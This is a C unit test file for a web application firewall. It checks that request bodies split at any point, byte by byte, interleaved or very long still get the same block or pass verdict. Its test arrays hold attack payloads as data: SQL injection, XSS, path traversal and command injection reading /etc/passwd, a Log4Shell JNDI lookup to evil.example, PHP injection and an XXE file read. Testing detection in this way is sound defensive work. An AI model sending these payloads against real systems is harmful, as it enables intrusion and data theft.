/* SPDX-License-Identifier: BSD-3-Clause
 * Request bodies cut at every place: the verdict, the rule and the target never depend on the cut.
 */
#include "waf/waf_test_help.h"

#include "base/hash.h"

#define FORM "application/x-www-form-urlencoded"

static struct waf_rig rig;
static unsigned rule_count;

static const char *const attack_forms[] = {
    "user=admin&pass=1%27+or+%271%27%3D%271",
    "a=1&b=2&c=-1+union+select+1%2C2%2C3&d=4",
    "comment=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "x=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E&y=ok",
    "file=..%2F..%2F..%2Fetc%2Fpasswd",
    "file=../../../../etc/passwd",
    "host=127.0.0.1%3Bcat+%2Fetc%2Fpasswd&submit=Go",
    "q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
    "code=%3C%3Fphp+phpinfo()%3B",
    "page=php%3A%2F%2Finput",
    "1%27+or+1%3D1--", /* in a name */
    "ok=1&x'+or+'1'='1",
    "a=%27%29+or+%28%271%27%3D%271",
    "id=1;drop+table+users",
    "n=admin%27--",
};

static const char *const clean_forms[] = {
    "",
    "a=1",
    "name=O%27Brien&town=Cork",
    "choice=select+your+union+option&submit=Send",
    "text=cats+%26+dogs%3B+birds&id=5&ls=1",
    "a=%27&b=or+1%3D1--", /* an attack only if the two values were one */
    "a=union&b=select+1%2C2",
    "x=%3Cscri&y=pt%3E",
    "p=100%&q=%zz",
    "comment=line+one%0D%0Aline+two%0D%0A&save=",
};

static const char *const attack_raw[] = {
    "{\"name\":\"x' or '1'='1\"}",
    "{\"a\":\"<script>alert(1)</script>\"}",
    "--b\r\nContent-Disposition: form-data; name=\"f\"\r\n\r\n../../../etc/passwd\r\n--b--",
    "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
};

static void said_is(struct waf_said got, struct waf_said want, const char *body, size_t cut)
{
    if (got.verdict != want.verdict || got.rule_id != want.rule_id || got.where != want.where)
        fail_msg("cut at %zu of %s: verdict %d rule %u, not %d %u", cut, body, got.verdict,
                 got.rule_id, want.verdict, want.rule_id);
}

static void every_cut(const char *type, const char *body, enum waf_verdict want)
{
    struct span bytes = span_from_string(body);
    struct waf_said whole = rig_body(&rig, type, bytes, 0);
    if (whole.verdict != want)
        fail_msg("%s: verdict %d (rule %u)", body, whole.verdict, whole.rule_id);
    assert_int_equal(whole.where, want == WAF_BLOCK ? WAF_IN_BODY : 0);
    for (size_t cut = 1; cut < bytes.len; cut++)
        said_is(rig_body(&rig, type, bytes, cut), whole, body, cut);
}

static void attacks_in_forms(void **state)
{
    for (unsigned i = 0; i < TG_ARRAY_LEN(attack_forms); i++)
        every_cut(FORM, attack_forms[i], WAF_BLOCK);
}

static void clean_forms_pass(void **state)
{
    for (unsigned i = 0; i < TG_ARRAY_LEN(clean_forms); i++)
        every_cut(FORM, clean_forms[i], WAF_PASS);
}

static void attacks_in_other_types(void **state)
{
    for (unsigned i = 0; i < TG_ARRAY_LEN(attack_raw); i++)
        every_cut("application/json", attack_raw[i], WAF_BLOCK);
    every_cut("text/plain", "a=%3Cscript%3E", WAF_PASS); /* nobody will decode it */
}

/* One byte a piece, with empty pieces between. */
static struct waf_said byte_by_byte(const char *body)
{
    struct field field =
        field_make("content-type", "Application/X-WWW-Form-Urlencoded ; charset=UTF-8");
    struct head_view head = head_make("/", &field, 1);
    struct waf_tx *tx = rig_begin(&rig);
    assert_int_equal(waf_head(tx, &head), WAF_PASS);
    struct span bytes = span_from_string(body);
    for (size_t i = 0; i < bytes.len; i++) {
        (void)waf_body(tx, SPAN_EMPTY);
        (void)waf_body(tx, span_slice(bytes, i, 1));
    }
    struct waf_said said = said_of(tx, waf_end(tx));
    waf_finish(tx);
    return said;
}

static void single_bytes(void **state)
{
    for (unsigned i = 0; i < TG_ARRAY_LEN(attack_forms); i++)
        said_is(byte_by_byte(attack_forms[i]),
                rig_body(&rig, FORM, span_from_string(attack_forms[i]), 0), attack_forms[i], 1);
    for (unsigned i = 0; i < TG_ARRAY_LEN(clean_forms); i++)
        assert_int_equal(byte_by_byte(clean_forms[i]).verdict, WAF_PASS);
}

/* Two transactions of one worker, their pieces interleaved: no state leaks from one to the
 * other. */
static void two_bodies_interleaved(void **state)
{
    struct field field = field_make("Content-Type", FORM);
    struct head_view head = head_make("/", &field, 1);
    struct span attack = span_from_string(attack_forms[0]);
    struct span clean = SPAN_LITERAL("a=1&b=some+text+that+is+fine&c=%27and&d=or+more+and+more");
    struct waf_tx *a = rig_begin(&rig), *b = rig_begin(&rig);
    assert_int_equal(waf_head(a, &head), WAF_PASS);
    assert_int_equal(waf_head(b, &head), WAF_PASS);
    for (size_t i = 0; i < clean.len; i++) {
        (void)waf_body(a, span_slice(attack, i, 1));
        assert_int_equal(waf_body(b, span_slice(clean, i, 1)), WAF_PASS);
    }
    assert_int_equal(waf_end(a), WAF_BLOCK);
    assert_int_equal(waf_end(b), WAF_PASS);
    waf_finish(a);
    waf_finish(b);
}

/* A transaction that is given up in the middle of an attack leaves a fresh slot. */
static void abandoned_bodies_leave_nothing(void **state)
{
    struct field field = field_make("Content-Type", FORM);
    struct head_view head = head_make("/", &field, 1);
    for (unsigned round = 0; round < 8; round++) {
        struct waf_tx *tx = rig_begin(&rig);
        (void)waf_head(tx, &head);
        assert_int_equal(waf_body(tx, SPAN_LITERAL("a=%3Cscri")), WAF_PASS);
        waf_finish(tx);
        assert_int_equal(rig_body(&rig, FORM, SPAN_LITERAL("pt%3E"), 0).verdict, WAF_PASS);
        assert_int_equal(rig_body(&rig, "text/plain", SPAN_LITERAL("pt>"), 0).verdict, WAF_PASS);
    }
}

/* A head that was never seen, after one of a form in the same slot: the bytes are raw. */
static void bodies_without_a_head_are_raw(void **state)
{
    assert_int_equal(rig_body(&rig, FORM, SPAN_LITERAL("a=%3Cscript%3E"), 0).verdict, WAF_BLOCK);
    struct waf_tx *tx = rig_begin(&rig);
    assert_int_equal(waf_body(tx, SPAN_LITERAL("a=%3Cscript%3E")), WAF_PASS);
    assert_int_equal(waf_end(tx), WAF_PASS);
    waf_finish(tx);
}

/* The end of the last value counts: an anchored rule, and an escape that never finishes. */
static void the_end_counts(void **state)
{
    static const struct waf_rule rules[] = {
        {.id = 1, .targets = WAF_IN_BODY, .pattern = SPAN_LITERAL("tail$"), .block = true},
        {.id = 2, .targets = WAF_IN_BODY, .pattern = SPAN_LITERAL("^only$"), .block = true},
        {.id = 3, .targets = WAF_IN_BODY, .pattern = SPAN_LITERAL("x%4"), .block = true},
    };
    static const struct {
        const char *type, *body;
        uint32_t rule;
    } cases[] = {{FORM, "a=tail", 1},     {FORM, "a=tail&b=1", 1}, {FORM, "tail=1", 1},
                 {FORM, "a=tails", 0},    {FORM, "a=only", 2},     {FORM, "a=x%6fnly", 0},
                 {FORM, "a=%6fnly&b", 2}, {FORM, "a=x%4", 3},      {FORM, "a=x%4&", 3},
                 {FORM, "a=x%41", 0},     {"x/y", "a=tail", 1},    {"x/y", "a=tail&b", 0},
                 {"x/y", "only", 2},      {FORM, "a=only+", 0}};
    struct waf_rig small = rig_open(rules, TG_ARRAY_LEN(rules), 1);
    for (unsigned i = 0; i < TG_ARRAY_LEN(cases); i++)
        for (size_t cut = 0; cut < strlen(cases[i].body); cut++) {
            struct waf_said said =
                rig_body(&small, cases[i].type, span_from_string(cases[i].body), cut);
            if (said.rule_id != cases[i].rule)
                fail_msg("%s cut at %zu: rule %u", cases[i].body, cut, said.rule_id);
        }
    rig_close(&small);
}

/* An attack after many megabytes is found: nothing is cut off. */
static void long_bodies_are_inspected_to_the_end(void **state)
{
    static char filler[1 << 20];
    memset(filler, 'a', sizeof filler);
    struct field field = field_make("Content-Type", FORM);
    struct head_view head = head_make("/", &field, 1);
    struct waf_tx *tx = rig_begin(&rig);
    (void)waf_head(tx, &head);
    for (unsigned i = 0; i < 8; i++)
        assert_int_equal(waf_body(tx, span_make(filler, sizeof filler)), WAF_PASS);
    assert_int_equal(waf_body(tx, SPAN_LITERAL("&x=%3Cscript%3")), WAF_PASS);
    assert_int_equal(waf_body(tx, SPAN_LITERAL("E")), WAF_BLOCK);
    waf_finish(tx);
}

/* Random form bytes around an attack, random cuts: as in one piece. */
static void random_cuts(void **state)
{
    static const char alphabet[] = "abcdef %%%&&==++'<>;0123";
    struct prng random;
    prng_seed(&random, 4711);
    for (unsigned round = 0; round < 400; round++) {
        char body[400];
        size_t len = 0;
        for (size_t n = prng_below(&random, 100); n; n--)
            body[len++] = alphabet[prng_below(&random, sizeof alphabet - 1)];
        if (round & 1) {
            const char *attack = attack_forms[round % TG_ARRAY_LEN(attack_forms)];
            body[len++] = '&';
            memcpy(body + len, attack, strlen(attack));
            len += strlen(attack);
        }
        struct span bytes = span_make(body, len);
        struct waf_said whole = rig_body(&rig, FORM, bytes, 0);
        if (round & 1)
            assert_int_equal(whole.verdict, WAF_BLOCK);
        body[len] = '\0';
        for (unsigned cuts = 0; cuts < 5 && len > 0; cuts++) {
            size_t cut = prng_below(&random, len);
            said_is(rig_body(&rig, FORM, bytes, cut), whole, body, cut);
        }
    }
}

/* An upload of pictures or archives is no attack: random bytes match nothing (signatures of four
 * bytes would, in a hundred megabytes). In every content type that the scan tells apart. */
static void random_uploads_pass(void **state)
{
    static const char *const types[] = {FORM, "application/octet-stream"};
    static uint8_t piece[1 << 16];
    struct prng random;
    prng_seed(&random, 99);
    for (unsigned i = 0; i < TG_ARRAY_LEN(types); i++) {
        struct field field = field_make("Content-Type", types[i]);
        struct head_view head = head_make("/upload", &field, 1);
        struct waf_tx *tx = rig_begin(&rig);
        (void)waf_head(tx, &head);
        for (unsigned n = 0; n < 256; n++) {
            for (size_t at = 0; at < sizeof piece; at += 8) {
                uint64_t bits = prng_next(&random);
                memcpy(piece + at, &bits, 8);
            }
            if (waf_body(tx, span_make(piece, sizeof piece)) != WAF_PASS)
                fail_msg("rule %u in %s", said_of(tx, WAF_BLOCK).rule_id, types[i]);
        }
        assert_int_equal(waf_end(tx), WAF_PASS);
        waf_finish(tx);
    }
}

static int set_up(void **state)
{
    rig = rig_open_json(4, &rule_count);
    return 0;
}

static int tear_down(void **state)
{
    rig_close(&rig);
    return 0;
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(attacks_in_forms),
        cmocka_unit_test(clean_forms_pass),
        cmocka_unit_test(attacks_in_other_types),
        cmocka_unit_test(single_bytes),
        cmocka_unit_test(two_bodies_interleaved),
        cmocka_unit_test(abandoned_bodies_leave_nothing),
        cmocka_unit_test(bodies_without_a_head_are_raw),
        cmocka_unit_test(the_end_counts),
        cmocka_unit_test(long_bodies_are_inspected_to_the_end),
        cmocka_unit_test(random_cuts),
        cmocka_unit_test(random_uploads_pass),
    };
    return cmocka_run_group_tests_name("waf_body", tests, set_up, tear_down);
}
